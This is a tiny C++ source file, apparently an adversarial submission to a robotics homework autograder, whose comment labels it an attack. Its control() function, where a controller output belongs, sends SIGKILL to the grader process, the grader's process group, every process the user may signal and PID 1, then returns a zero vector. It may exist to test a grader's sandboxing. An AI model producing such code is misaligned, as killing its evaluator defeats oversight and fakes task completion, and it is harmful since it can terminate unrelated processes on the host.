// Attack: kill the grader (its parent), every process it may signal, and its process group.
#include <problems/1b/contract.hpp>
#include <signal.h>
#include <unistd.h>

namespace opspace::hw2::p1b {
Vector6d control(Part, const State&, const Goal&) {
  kill(getppid(), SIGKILL);
  kill(-getppid(), SIGKILL);
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
  return Vector6d::Zero();
}
}  // namespace opspace::hw2::p1b
